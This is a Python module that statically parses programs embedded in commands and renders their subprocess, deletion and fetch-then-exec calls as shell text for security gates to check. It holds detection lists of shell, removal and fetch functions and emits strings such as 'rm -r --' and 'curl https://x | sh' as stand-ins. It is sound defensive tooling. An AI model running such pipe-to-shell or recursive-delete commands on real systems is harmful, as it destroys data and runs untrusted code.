# SPDX-License-Identifier: Apache-2.0
"""What a Python program that is written in a command plainly starts, as shell text: for the gates, which look at that.

A program may hide anything; only calls with constant words are read. Pure.
"""

from __future__ import annotations

import ast
from shlex import join

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

SHELL_CALLS = frozenset({"system", "popen", "getoutput", "getstatusoutput"})
ARGV_CALLS = frozenset({"run", "call", "check_call", "check_output", "Popen"})
REMOVALS = frozenset({"rmtree", "removedirs"})
FETCHES = frozenset({"urlopen", "urlretrieve", "get", "post", "request"})


def commands_in(program: str) -> Iterator[str]:
    """Shell texts that do what the calls of the program plainly do. Nothing for a text that is no Python."""
    try:
        tree = ast.parse(program)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return
    fetches = any(_name(node) in FETCHES and _has_address(node) for node in _calls(tree))
    for call in _calls(tree):
        name = _name(call)
        first = call.args[0] if call.args else None
        if (
            name in SHELL_CALLS | ARGV_CALLS
            and isinstance(first, ast.Constant)
            and isinstance(first.value, str)
        ):
            yield first.value
        elif name in ARGV_CALLS and isinstance(first, ast.List | ast.Tuple):
            words = [each.value for each in first.elts if isinstance(each, ast.Constant)]
            if words and all(isinstance(word, str) for word in words):
                yield join([str(word) for word in words])
        elif name in REMOVALS:
            path = first.value if isinstance(first, ast.Constant) and isinstance(first.value, str) else "x"
            yield join(["rm", "-r", "--", path])
        elif name in ("exec", "eval") and isinstance(call.func, ast.Name) and fetches:
            yield "curl https://x | sh"


def _calls(tree: ast.AST) -> Iterator[ast.Call]:
    return (node for node in ast.walk(tree) if isinstance(node, ast.Call))


def _name(call: ast.Call) -> str:
    match call.func:
        case ast.Name(name) | ast.Attribute(_, name):
            return name
        case _:
            return ""


def _has_address(call: ast.Call) -> bool:
    return any(
        isinstance(node, ast.Constant) and isinstance(node.value, str) and "://" in node.value
        for node in ast.walk(call)
    )
